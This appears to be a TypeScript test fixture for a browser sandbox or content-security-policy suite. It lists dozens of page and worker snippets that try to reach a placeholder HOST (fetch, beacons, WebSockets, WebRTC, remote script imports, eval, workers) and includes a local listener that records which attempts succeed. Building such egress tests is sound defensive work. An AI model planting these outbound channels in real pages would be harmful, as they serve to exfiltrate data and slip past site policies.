import { createSocket } from 'node:dgram';
import { createServer } from 'node:net';

/** Attempts of a hostile module of a page, each towards a host of its own, which is asked for if it gets through. */
export const CHANNELS: Record<string, string> = {
  fetch: 'fetch("https://HOST/", { mode: "no-cors" })',
  'fetch-plain': 'fetch("http://HOST/", { mode: "no-cors" })',
  keepalive: 'fetch("https://HOST/", { mode: "no-cors", keepalive: true, method: "POST", body: "x" })',
  xhr: 'const x = new XMLHttpRequest(); x.open("GET", "https://HOST/"); x.send()',
  websocket: 'new WebSocket("wss://HOST/")',
  eventsource: 'new EventSource("https://HOST/")',
  beacon: 'navigator.sendBeacon("https://HOST/", "x")',
  image: 'new Image().src = "https://HOST/x.png"',
  'image-plain': 'new Image().src = "http://HOST/x.png"',
  background: 'document.body.style.background = "url(http://HOST/x.png)"',
  stylesheet: 'add("link", { rel: "stylesheet", href: "https://HOST/x.css" })',
  'css-import': 'add("style", { textContent: "@import url(https://HOST/x.css)" })',
  font: 'const f = new FontFace("x", "url(https://HOST/x.woff2)"); document.fonts.add(f); f.load()',
  video: 'add("video", { src: "https://HOST/x.mp4", preload: "auto" })',
  audio: 'add("audio", { src: "https://HOST/x.mp3", preload: "auto" })',
  track:
    'const v = add("video", {}); v.append(Object.assign(document.createElement("track"), { default: true, src: "https://HOST/x.vtt" }))',
  object: 'add("object", { data: "https://HOST/x" })',
  embed: 'add("embed", { src: "https://HOST/x" })',
  iframe: 'add("iframe", { src: "http://HOST/x" })',
  srcdoc: 'add("iframe", { srcdoc: "<img src=https://HOST/x>" })',
  markup: 'document.body.insertAdjacentHTML("beforeend", "<link rel=stylesheet href=https://HOST/x>")',
  form: 'const f = add("form", { action: "http://HOST/x", method: "post", target: "_blank" }); f.submit()',
  script: 'add("script", { src: "https://HOST/x.js" })',
  import: 'import("https://HOST/x.js")',
  worker: 'new Worker("https://HOST/x.js")',
  'data-worker': 'new Worker("data:text/javascript,fetch(%22https://HOST/%22)")',
  'blob-worker': 'new Worker(URL.createObjectURL(new Blob(["fetch(\'https://HOST/\')"])))',
  eval: 'eval("fetch(\'https://HOST/\')")',
  'form-tls':
    'const f = add("form", { action: "https://HOST/x", method: "post", target: "_blank" }); f.submit()',
  'iframe-tls': 'add("iframe", { src: "https://HOST/x" })',
  prefetch: 'add("link", { rel: "prefetch", href: "https://HOST/x" })',
  preload: 'add("link", { rel: "preload", as: "font", href: "https://HOST/x", crossOrigin: "" })',
  modulepreload: 'add("link", { rel: "modulepreload", href: "https://HOST/x.js" })',
  preconnect: 'add("link", { rel: "preconnect", href: "https://HOST/" })',
  manifest:
    'document.querySelector("link[rel=manifest]")?.remove(); add("link", { rel: "manifest", href: "https://HOST/x" })',
  turn: 'const p = new RTCPeerConnection({ iceServers: [{ urls: "turn:HOST:443?transport=tcp", username: "x", credential: "x" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))',
  'dns-prefetch': 'add("link", { rel: "dns-prefetch", href: "https://HOST/" })',
  'prefetch-image': 'add("link", { rel: "preload", as: "image", href: "https://HOST/x.png" })',
  cursor: 'document.body.style.cursor = "url(https://HOST/x.cur), auto"',
  'svg-image':
    'const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.setAttribute("href", "https://HOST/x.png"); add("div", {}).append(s)',
  ping: 'add("a", { href: "#", ping: "https://HOST/x" }).click()',
  'shared-worker': 'new SharedWorker("https://HOST/x.js")',
  webtransport: 'await new WebTransport("https://HOST/").ready',
  stun: 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:HOST:443" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))',
  javascript: 'add("a", { href: "javascript:fetch(\'https://HOST/\')" }).click()',
};

/** Attempts in a worker. */
export const IN_WORKER: Record<string, string> = {
  ...Object.fromEntries(
    [
      'fetch',
      'fetch-plain',
      'keepalive',
      'xhr',
      'websocket',
      'eventsource',
      'webtransport',
      'import',
      'eval',
      'worker',
      'data-worker',
      'blob-worker',
    ].map((channel) => [channel, CHANNELS[channel] ?? '']),
  ),
  'import-scripts': 'importScripts("https://HOST/x.js")',
  // A file of this site, which brings no policy of the page.
  'own-file':
    'new Worker(location.origin + "/sw.js").postMessage({ kind: "used", paths: ["https://HOST/"] })',
};

/** Name of a connection over which nothing came. */
export const SILENT = 'a connection without a word';

/** A port of this computer that hears whoever connects or sends a packet there; what was asked for, by its first word. */
export async function startSink() {
  const heard: string[] = [];
  const server = createServer((socket) => {
    const place = heard.push(SILENT) - 1;
    socket.on('error', () => undefined);
    socket.once('data', (data) => {
      heard[place] = /^[A-Z]+ \/([\w-]*)/.exec(data.toString('latin1'))?.[1] ?? 'other words';
      socket.destroy();
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const packets = createSocket('udp4', () => heard.push('a packet'));
  await new Promise<void>((done) => packets.bind(port, '127.0.0.1', done));
  return {
    port,
    heard,
    close: async () => {
      await new Promise<void>((done) => packets.close(done));
      await new Promise((done) => server.close(done));
    },
  };
}
